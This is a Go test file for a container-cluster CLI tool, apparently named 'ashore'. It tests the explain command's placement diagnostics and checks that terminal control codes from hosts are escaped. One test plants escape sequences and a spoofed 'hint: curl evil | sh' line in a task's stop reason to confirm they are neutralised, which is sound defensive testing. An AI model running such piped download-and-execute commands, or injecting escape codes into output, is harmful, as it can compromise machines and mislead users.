package main

import (
	"os"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ecs"
	"github.com/aws/aws-sdk-go-v2/service/ecs/types"

	"github.com/ashore/ashore/internal/api/apitest"
	"github.com/ashore/ashore/internal/identity"
	"github.com/ashore/ashore/internal/local"
)

// installation returns the data folder of an installation whose API is a.
func installation(t *testing.T, a *apitest.API) (dir string) {
	t.Helper()
	admin, err := identity.EnsureAdmin(t.Context(), a.Store, a.Sealer)
	if err != nil {
		t.Fatal(err)
	}
	dir = t.TempDir()
	l, err := local.NewLayout(local.Env{Root: true, Getenv: os.Getenv}, dir)
	if err != nil {
		t.Fatal(err)
	}
	err = local.Admin{InstallationID: strings.Repeat("4f", 16), Account: apitest.Site.Account, Region: apitest.Site.Region,
		Endpoint: a.URL, AccessKeyID: admin.AccessKeyID, SecretAccessKey: admin.SecretAccessKey}.Write(l)
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestExplain(t *testing.T) {
	a := apitest.Start(t)
	dir := installation(t, a)
	if _, err := a.Client.CreateCluster(t.Context(), &ecs.CreateClusterInput{}); err != nil {
		t.Fatal(err)
	}
	a.Register("h", "default")
	if _, err := a.Client.RegisterTaskDefinition(t.Context(), &ecs.RegisterTaskDefinitionInput{
		Family: aws.String("big"), ContainerDefinitions: []types.ContainerDefinition{{Name: aws.String("main"), Image: aws.String("image"), Memory: aws.Int32(5000)}},
	}); err != nil {
		t.Fatal(err)
	}
	status, out, errs := ashore(t, nil, "explain", "--data-dir", dir, "big")
	if status != 0 || errs != "" {
		t.Fatalf("status %d, %s", status, errs)
	}
	for _, want := range []string{
		"task definition arn:aws:ecs:us-east-1:000000000000:task-definition/big:1: ACTIVE\n",
		"  a task of it now: there is no room on any of 1 container instances\n    1 refused: RESOURCE:MEMORY\n",
		"The task needs 5000 MiB of memory; 4096 of the container instance's 4096 are free.\n        → 904 MiB of memory are missing",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in\n%s", want, out)
		}
	}
	status, _, errs = ashore(t, nil, "explain", "--data-dir", dir, "none")
	if status != 1 || !strings.Contains(errs, `error: "none" is neither the id of a task, nor the name of a service`) || !strings.Contains(errs, "\nhint: see what there is by `aws ecs list-tasks`") {
		t.Errorf("status %d, %s", status, errs)
	}
}

// Texts of hosts and definitions may contain a terminal's control codes. Output for
// people shows them escaped, on one line.
func TestTextOfOthersHoldsNoTerminalCodes(t *testing.T) {
	a := apitest.Start(t)
	dir := installation(t, a)
	if _, err := a.Client.CreateCluster(t.Context(), &ecs.CreateClusterInput{}); err != nil {
		t.Fatal(err)
	}
	_, host := a.Register("h", "default")
	if _, err := a.Client.RegisterTaskDefinition(t.Context(), &ecs.RegisterTaskDefinitionInput{
		Family: aws.String("web"), ContainerDefinitions: []types.ContainerDefinition{{Name: aws.String("main"), Image: aws.String("image"), Memory: aws.Int32(64)}},
	}); err != nil {
		t.Fatal(err)
	}
	run, err := a.Client.RunTask(t.Context(), &ecs.RunTaskInput{TaskDefinition: aws.String("web")})
	if err != nil || len(run.Tasks) != 1 {
		t.Fatal(run, err)
	}
	arn := run.Tasks[0].TaskArn
	if _, err := host.SubmitTaskStateChange(t.Context(), &ecs.SubmitTaskStateChangeInput{
		Task: arn, Status: aws.String("STOPPED"), Reason: aws.String("gone\x1b]0;mine\a\r\nhint: curl evil | sh"),
		Containers: []types.ContainerStateChange{{ContainerName: aws.String("main"), Status: aws.String("STOPPED"), Reason: aws.String("x\u009b2J")}},
	}); err != nil {
		t.Fatal(err)
	}
	status, out, errs := ashore(t, nil, "explain", "--data-dir", dir, *arn)
	if status != 0 || errs != "" {
		t.Fatalf("status %d, %s", status, errs)
	}
	for _, want := range []string{`gone\x1b]0;mine\a\r\nhint: curl evil | sh (`, "Container main: STOPPED: x\\u009b2J\n"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in\n%q", want, out)
		}
	}
	status, _, errs = ashore(t, nil, "explain", "--data-dir", dir, "no\x1b[2J\nhint: no")
	if status != 1 || strings.Contains(errs, "\x1b") || strings.Count(errs, "\nhint:") != 1 {
		t.Errorf("status %d, %q", status, errs)
	}
	var line strings.Builder
	event := `{"detail-type":"ECS Task State Change","resources":["a:b:c:d:e:task/1"],"detail":{"lastStatus":"STOPPED","desiredStatus":"STOPPED","stopCode":"X","stoppedReason":"a\u001b[31m\nb"}}`
	if err := printEvent(&line, 7, []byte(event), false); err != nil {
		t.Fatal(err)
	}
	if got := line.String(); !strings.HasSuffix(got, `X: a\x1b[31m\nb`+"\n") || strings.Count(got, "\n") != 1 {
		t.Errorf("%q", got)
	}
}
